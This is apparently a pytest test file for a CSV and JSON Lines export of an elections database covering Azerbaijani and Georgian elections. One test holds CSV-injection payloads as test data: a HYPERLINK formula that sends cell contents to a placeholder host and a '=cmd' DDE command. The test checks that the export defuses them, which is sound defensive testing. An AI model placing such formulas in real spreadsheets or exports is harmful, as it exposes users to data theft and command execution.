"""The bulk export: /export/{table}.csv and .jsonl over the test world, filters, errors."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from typing import Any

import httpx
import pytest
from tortoise.context import TortoiseContext

import models
from models.base import Entity
from tests.support.clients import client
from tests.support.servers import running_server
from tests.support.world import AZ_2024_SOURCES
from web import export
from web.export import TABLES, Filters

#: Rows in the test world, per export.
COUNTS = {"elections": 9, "candidacies": 62, "tallies": 34, "tally-lines": 120, "endorsements": 12}

#: The final CEC protocol of 2024, line by line: (candidacy, votes, share) from first place.
FINAL_CEC_2024 = [
    ("ilham-aliyev", "new-azerbaijan-party", 4567458, 92.12),
    ("zahid-oruj", None, 107632, 2.17),
    ("fazil-mustafa", None, 98421, 1.99),
    ("gudrat-hasanguliyev", None, 85411, 1.72),
    ("razi-nurullayev", "national-front-azerbaijan", 39643, 0.8),
    ("musayev", None, 32885, 0.66),
    ("f-aliyev", None, 26517, 0.54),
]


async def download(path: str, **params: str) -> httpx.Response:
    async with client() as http:
        return await http.get(path, params=params)


def csv_rows(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.text)))


def jsonl_rows(response: httpx.Response) -> list[dict[str, Any]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/x-ndjson"
    assert response.text == "" or response.text.endswith("\n")
    return [json.loads(line) for line in response.text.splitlines()]


async def stamp(model: type[Entity], key: str) -> str:
    """A row's updated_at as the export writes it."""
    row = await model.get(key=key)
    return row.updated_at.astimezone(dt.UTC).isoformat()


def by(rows: list[dict[str, Any]], column: str, value: str) -> dict[str, Any]:
    (row,) = [row for row in rows if row[column] == value]
    return row


# --- What the files hold -----------------------------------------------------------------


async def test_the_2024_election_in_elections_csv(world: TortoiseContext) -> None:
    response = await download("/export/elections.csv")
    assert response.headers["content-disposition"] == 'attachment; filename="elections.csv"'
    rows = csv_rows(response)
    election = await models.Election.get(key="az-president-2024")
    assert by(rows, "key", "az-president-2024") == {
        "key": "az-president-2024",
        "country": "AZ",
        "kind": "presidential",
        "office": "President of Azerbaijan",
        "date": "2024-02-07",
        "early": "true",
        "originally_due": "2025-10",
        "called_on": "2023-12-07",
        "called_by_person": "ilham-aliyev",
        "called_by_organization": "",
        "reason": election.reason,
        "term_years": "7",
        "seats": "",
        "result": "az-president-2024/final-cec",
        "turnout": "76.43",
        "winner": "az-president-2024/ilham-aliyev",
        "margin": "89.95",
        "summary": election.summary,
        "sources": " ".join(AZ_2024_SOURCES),
        "updated_at": await stamp(models.Election, "az-president-2024"),
    }
    # The summary has commas and quotes: the cell is quoted and its quotes doubled.
    assert election.summary is not None
    assert election.summary.startswith('Snap election, dubbed the "Victory Election", called')
    assert '"Snap election, dubbed the ""Victory Election"", called' in response.text
    # The header first, in the documented order; rows in the order they were loaded.
    assert response.text.splitlines()[0] == ",".join(TABLES["elections"].columns)
    assert [row["key"] for row in rows] == [
        "az-president-1992",
        "az-president-1993",
        "az-president-1998",
        "az-president-2003",
        "az-president-2008",
        "az-president-2013",
        "az-president-2018",
        "az-president-2024",
        "ge-parliament-2024",
    ]


async def test_the_2024_final_cec_tally_and_its_lines(world: TortoiseContext) -> None:
    tallies = csv_rows(await download("/export/tallies.csv"))
    key = "az-president-2024/final-cec"
    tally = await models.Tally.get(key=key)
    assert by(tallies, "key", key) == {
        "key": key,
        "election": "az-president-2024",
        "round": "1",
        "stage": "final",
        "as_of": "2024-02-13",
        "preferred": "true",
        "counted_share": "",
        "stations_reported": "",
        "stations_total": "",
        "registered": "",
        "cast": "",
        "valid": "",
        "invalid": "",
        "against_all": "",
        "turnout_reported": "76.43",
        "turnout": "76.43",
        "turnout_computed": "false",
        "summary": tally.summary,
        "sources": "menafn-1107844554",
        "updated_at": await stamp(models.Tally, key),
    }
    # Turnout computed from counts: 1993's CEC protocol, 3,966,327 cast of 4,062,053.
    assert by(tallies, "key", "az-president-1993/final-cec")["turnout"] == "97.64"
    assert by(tallies, "key", "az-president-1993/final-cec")["turnout_computed"] == "true"

    lines = jsonl_rows(await download("/export/tally-lines.jsonl"))
    updated_at = await stamp(models.Tally, key)
    assert [line for line in lines if line["tally"] == key] == [
        {
            "tally": key,
            "election": "az-president-2024",
            "candidacy": f"az-president-2024/{person}",
            "person": person,
            "party": party,
            "votes": votes,
            "share": share,
            "seats": None,
            "updated_at": updated_at,
        }
        for person, party, votes, share in FINAL_CEC_2024
    ]


async def test_a_candidacy_as_one_json_line(world: TortoiseContext) -> None:
    response = await download("/export/candidacies.jsonl")
    assert response.headers["content-disposition"] == 'attachment; filename="candidacies.jsonl"'
    line = next(
        line for line in response.text.splitlines() if '"az-president-2024/zahid-oruj"' in line
    )
    assert json.loads(line) == {
        "key": "az-president-2024/zahid-oruj",
        "election": "az-president-2024",
        "person": "zahid-oruj",
        "party": None,
        "name": "Zahid Oruj",
        "nomination": "self",
        "incumbent": False,
        "role": "Member of the National Assembly",
        "status": "registered",
        "votes": 107632,
        "share": 2.17,
        "won": False,
        "sources": ["cec-az-news-1285", "seed-article-2024-02", "wikipedia-az-2024"],
        "updated_at": await stamp(models.Candidacy, "az-president-2024/zahid-oruj"),
    }
    rows = jsonl_rows(response)
    aliyev = by(rows, "key", "az-president-2024/ilham-aliyev")
    assert (aliyev["party"], aliyev["votes"], aliyev["share"], aliyev["won"]) == (
        "new-azerbaijan-party",
        4567458,
        92.12,
        True,
    )
    # A party list: no person, the party's name; seats-only results have no votes.
    dream = by(rows, "key", "ge-parliament-2024/georgian-dream")
    assert (dream["person"], dream["party"], dream["name"]) == (
        None,
        "georgian-dream",
        "Georgian Dream \N{EN DASH} Democratic Georgia",
    )
    assert (dream["votes"], dream["share"], dream["won"]) == (None, 53.93, True)


async def test_an_endorsement_row(world: TortoiseContext) -> None:
    rows = csv_rows(await download("/export/endorsements.csv"))
    key = "az-president-2024/congratulation-russia"
    assert by(rows, "key", key) == {
        "key": key,
        "election": "az-president-2024",
        "candidacy": "az-president-2024/ilham-aliyev",
        "candidate": "ilham-aliyev",
        "kind": "congratulation",
        "endorser_person": "vladimir-putin",
        "endorser_organization": "",
        "country": "RU",
        "date": "",
        "channel": "call",
        "summary": "Putin telephoned Aliyev to congratulate him on winning the snap vote.",
        "sources": "nsn-fm-putin-aliyev seed-article-2024-02 uic-am-18288",
        "updated_at": await stamp(models.Endorsement, key),
    }


@pytest.mark.parametrize("table", COUNTS)
async def test_every_row_once_in_both_formats(world: TortoiseContext, table: str) -> None:
    in_csv = csv_rows(await download(f"/export/{table}.csv"))
    in_jsonl = jsonl_rows(await download(f"/export/{table}.jsonl"))
    assert len(in_csv) == len(in_jsonl) == COUNTS[table]
    # The same rows: the CSV is the JSON with nulls empty, booleans and lists spelled out.
    assert in_csv == [{k: export.cell(v) for k, v in row.items()} for row in in_jsonl]
    assert list(in_csv[0]) == list(in_jsonl[0]) == list(TABLES[table].columns)


# --- Filters -----------------------------------------------------------------------------


async def test_country_keeps_the_rows_of_that_countrys_elections(world: TortoiseContext) -> None:
    elections = csv_rows(await download("/export/elections.csv", country="GE"))
    assert [row["key"] for row in elections] == ["ge-parliament-2024"]
    lines = jsonl_rows(await download("/export/tally-lines.jsonl", country="ge"))
    assert {line["election"] for line in lines} == {"ge-parliament-2024"}
    final = [
        (line["party"], line["share"], line["seats"])
        for line in lines
        if line["tally"] == "ge-parliament-2024/final-cec"
    ]
    assert final == [
        ("georgian-dream", 53.93, 89),
        ("coalition-for-change", 11.03, 19),
        ("unity-national-movement", 10.17, 16),
        ("strong-georgia", 8.81, 14),
        ("gakharia-for-georgia", 7.78, 12),
    ]
    # Endorsements by the election's country, not the endorser's (Russia's call is AZ's).
    endorsements = csv_rows(await download("/export/endorsements.csv", country="AZ"))
    assert len(endorsements) == COUNTS["endorsements"]
    assert by(endorsements, "key", "az-president-2024/congratulation-russia")["country"] == "RU"
    assert csv_rows(await download("/export/endorsements.csv", country="RU")) == []


async def test_updated_since_in_the_future_gives_only_the_header(world: TortoiseContext) -> None:
    response = await download("/export/elections.csv", updated_since="2999-01-01T00:00:00Z")
    assert response.status_code == 200
    assert response.text == ",".join(TABLES["elections"].columns) + "\r\n"
    response = await download("/export/tally-lines.jsonl", updated_since="2999-01-01")
    assert (response.status_code, response.text) == (200, "")


async def test_updated_since_in_the_past_gives_every_row(world: TortoiseContext) -> None:
    rows = csv_rows(await download("/export/tallies.csv", updated_since="2000-01-01T00:00:00Z"))
    assert len(rows) == COUNTS["tallies"]


async def test_updated_since_keeps_rows_updated_at_or_after_it(empty_db: TortoiseContext) -> None:
    georgia = await models.Country.create(code="GE", name="Georgia")
    azerbaijan = await models.Country.create(code="AZ", name="Azerbaijan")
    old = await models.Election.create(
        key="az-president-2018",
        country=azerbaijan,
        kind=models.ElectionKind.PRESIDENTIAL,
        office="President of Azerbaijan",
        date=dt.date(2018, 4, 11),
    )
    new = await models.Election.create(
        key="ge-parliament-2024",
        country=georgia,
        kind=models.ElectionKind.PARLIAMENTARY,
        office="Parliament of Georgia",
        date=dt.date(2024, 10, 26),
    )
    party = await models.Organization.create(
        key="georgian-dream", name="Georgian Dream", kind=models.OrganizationKind.PARTY
    )
    candidacy = await models.Candidacy.create(
        key="ge-parliament-2024/gd", election=new, party=party
    )
    tallies = {}
    for election in (old, new):
        tally = await models.Tally.create(
            key=f"{election.key}/final", election=election, stage=models.Stage.FINAL
        )
        tallies[election.key] = tally
    await models.TallyLine.create(
        tally=tallies["ge-parliament-2024"], candidacy=candidacy, seats=89
    )
    moment = dt.datetime(2025, 3, 1, 12, 0, 0, 250000, tzinfo=dt.UTC)
    await models.Election.filter(id=old.id).update(updated_at=moment - dt.timedelta(seconds=1))
    await models.Election.filter(id=new.id).update(updated_at=moment)
    await models.Tally.filter(election_id=old.id).update(updated_at=moment - dt.timedelta(days=1))
    await models.Tally.filter(election_id=new.id).update(updated_at=moment)

    async def keys(table: str, since: str, column: str = "key") -> list[str]:
        rows = jsonl_rows(await download(f"/export/{table}.jsonl", updated_since=since))
        return [row[column] for row in rows]

    # At the moment itself, in any notation: in UTC, with an offset, a "+" sent unescaped.
    for since in (
        "2025-03-01T12:00:00.25Z",
        "2025-03-01T12:00:00.250000+00:00",
        "2025-03-01T16:00:00.25+04:00",
        "2025-03-01 12:00:00.25",
    ):
        assert await keys("elections", since) == ["ge-parliament-2024"], since
    async with client() as http:
        response = await http.get(
            "/export/elections.jsonl?updated_since=2025-03-01T16:00:00.25+04:00"
        )
    assert [row["key"] for row in jsonl_rows(response)] == ["ge-parliament-2024"]
    assert await keys("elections", "2025-03-01T12:00:00.250001Z") == []
    assert await keys("elections", "2025-03-01T11:59:59Z") == [
        "az-president-2018",
        "ge-parliament-2024",
    ]
    # A line counts as updated when its tally is: the loader marks the tally when a line changes.
    assert await keys("tally-lines", "2025-03-01T12:00:00.25Z", "tally") == [
        "ge-parliament-2024/final"
    ]
    assert await keys("tallies", "2025-03-01T00:00:00Z") == ["ge-parliament-2024/final"]
    assert await keys("tallies", "2025-02-28T00:00:00Z") == [
        "az-president-2018/final",
        "ge-parliament-2024/final",
    ]


# --- CSV quoting -------------------------------------------------------------------------


async def test_csv_quotes_commas_quotes_and_line_breaks(empty_db: TortoiseContext) -> None:
    country = await models.Country.create(code="AZ", name="Azerbaijan")
    summary = 'First line, with a comma;\nsecond line with "quotes",\r\nand a third.'
    await models.Election.create(
        key="az-president-2024",
        country=country,
        kind=models.ElectionKind.PRESIDENTIAL,
        office="President of Azerbaijan",
        date=dt.date(2024, 2, 7),
        summary=summary,
    )
    response = await download("/export/elections.csv")
    (row,) = csv_rows(response)
    assert row["summary"] == summary
    quoted = '"First line, with a comma;\nsecond line with ""quotes"",\r\nand a third."'
    assert quoted in response.text
    (line,) = jsonl_rows(await download("/export/elections.jsonl"))
    assert line["summary"] == summary
    assert (line["result"], line["turnout"], line["winner"], line["sources"]) == (
        None,
        None,
        None,
        [],
    )


async def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(
    empty_db: TortoiseContext,
) -> None:
    # OWASP's rule for CSV injection: text starting with =, +, -, @, a tab or a carriage
    # return gets a single quote in front, which spreadsheets show as text and do not run.
    country = await models.Country.create(code="AZ", name="Azerbaijan")
    summaries = {
        "az-1": '=HYPERLINK("http://example.com/?leak="&A1,"Details")',
        "az-2": "+1 for the opposition",
        "az-3": "-2+3",
        "az-4": "@SUM(A1:A9)",
        "az-5": "\tindented",
        "az-6": "\rreturned",
        "az-7": "Plain text, with = and - inside",
    }
    for number, (key, summary) in enumerate(summaries.items(), 1):
        await models.Election.create(
            key=key,
            country=country,
            kind=models.ElectionKind.PRESIDENTIAL,
            office="=cmd|' /C calc'!A0" if key == "az-1" else "President",
            date=dt.date(2000 + number, 1, 1),
            summary=summary,
        )
    rows = csv_rows(await download("/export/elections.csv"))
    assert {row["key"]: row["summary"] for row in rows} == {
        "az-1": '\'=HYPERLINK("http://example.com/?leak="&A1,"Details")',
        "az-2": "'+1 for the opposition",
        "az-3": "'-2+3",
        "az-4": "'@SUM(A1:A9)",
        "az-5": "'\tindented",
        "az-6": "'\rreturned",
        "az-7": "Plain text, with = and - inside",
    }
    assert rows[0]["office"] == "'=cmd|' /C calc'!A0"
    # JSON Lines is data for programs, not a spreadsheet: written as stored.
    lines = jsonl_rows(await download("/export/elections.jsonl"))
    assert {line["key"]: line["summary"] for line in lines} == summaries


def test_numbers_are_written_as_numbers() -> None:
    # A negative number runs nothing, and a quote would make it text in a spreadsheet.
    assert [export.cell(value) for value in (-3, -2.5, 0, 92.12)] == ["-3", "-2.5", "0", "92.12"]
    assert [export.cell(value) for value in ("-3", ["-a", "b"], None, True)] == [
        "'-3",
        "'-a b",
        "",
        "true",
    ]


# --- Streaming in batches ----------------------------------------------------------------


async def test_the_rows_are_read_in_keyset_batches(world: TortoiseContext) -> None:
    table = TABLES["candidacies"]
    sizes = [len(rows) async for rows in export.batches(table, Filters(), batch_size=25)]
    assert sizes == [25, 25, 12]
    small = [row async for rows in export.batches(table, Filters(), batch_size=7) for row in rows]
    whole = [
        row async for rows in export.batches(table, Filters(), batch_size=1000) for row in rows
    ]
    assert len(whole) == COUNTS["candidacies"]
    assert small == whole
    # The stream sends a chunk per batch, the CSV header first.
    chunks = [c async for c in export.stream(table, export.FORMATS["csv"], Filters(), 25)]
    assert len(chunks) == 1 + 3
    # An exact multiple of the batch size ends with one empty query and no empty chunk.
    sizes = [len(rows) async for rows in export.batches(TABLES["elections"], Filters(), 3)]
    assert sizes == [3, 3, 3]


async def test_the_endpoint_streams_the_same_bytes_in_small_batches(
    world: TortoiseContext, monkeypatch: pytest.MonkeyPatch
) -> None:
    whole = {t: (await download(f"/export/{t}.csv")).text for t in COUNTS}
    monkeypatch.setattr(export, "BATCH_SIZE", 2)
    for table, text in whole.items():
        assert (await download(f"/export/{table}.csv")).text == text


# --- Bad requests ------------------------------------------------------------------------

EXPORTS = (
    "Exports: elections, candidacies, tallies, tally-lines, endorsements, "
    "each as .csv or .jsonl (e.g. /export/elections.csv)."
)


@pytest.mark.parametrize(
    "filename", ["votes.csv", "elections.xlsx", "elections", "tally_lines.csv", ".csv"]
)
async def test_an_unknown_export_is_404_listing_what_exists(
    world: TortoiseContext, filename: str
) -> None:
    response = await download(f"/export/{filename}")
    assert response.status_code == 404
    assert response.json() == {"error": f"There is no export {filename!r}. {EXPORTS}"}


@pytest.mark.parametrize(
    ("params", "message"),
    [
        (
            {"updated_since": "yesterday"},
            "updated_since must be an ISO 8601 date-time such as 2024-02-07T00:00:00Z or "
            "2024-02-07T04:00:00+04:00, got 'yesterday'.",
        ),
        (
            {"updated_since": "2024-02-30"},
            "updated_since must be an ISO 8601 date-time such as 2024-02-07T00:00:00Z or "
            "2024-02-07T04:00:00+04:00, got '2024-02-30'.",
        ),
        (
            {"since": "2024-02-07"},
            "Unknown query parameter 'since'; the export takes updated_since and country.",
        ),
        ({"country": "AZE"}, "country must be an ISO 3166-1 alpha-2 code such as AZ, got 'AZE'."),
        ({"country": "ZZ"}, "country: no country has the code 'ZZ'."),
    ],
)
async def test_a_bad_parameter_is_400_naming_it(
    world: TortoiseContext, params: dict[str, str], message: str
) -> None:
    response = await download("/export/elections.csv", **params)
    assert (response.status_code, response.json()) == (400, {"error": message})


async def test_a_parameter_given_twice_is_400(world: TortoiseContext) -> None:
    async with client() as http:
        response = await http.get("/export/elections.csv?country=AZ&country=GE")
    assert (response.status_code, response.json()) == (
        400,
        {"error": "The query parameter 'country' is given more than once."},
    )


# --- Over real HTTP ----------------------------------------------------------------------


def test_uvicorn_streams_an_export(server_database: str) -> None:
    # The rows are read while the response streams, in the request's task: this shows that
    # the database is reachable there under a real server.
    with (
        running_server(server_database) as server,
        httpx.Client(base_url=server.url, timeout=10) as http,
        http.stream("GET", "/export/candidacies.csv", params={"country": "AZ"}) as response,
    ):
        assert response.status_code == 200
        assert response.headers["transfer-encoding"] == "chunked"
        text = "".join(response.iter_text())
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == COUNTS["candidacies"] - 8  # the eight Georgian lists
    assert by(rows, "key", "az-president-2024/ilham-aliyev")["share"] == "92.12"
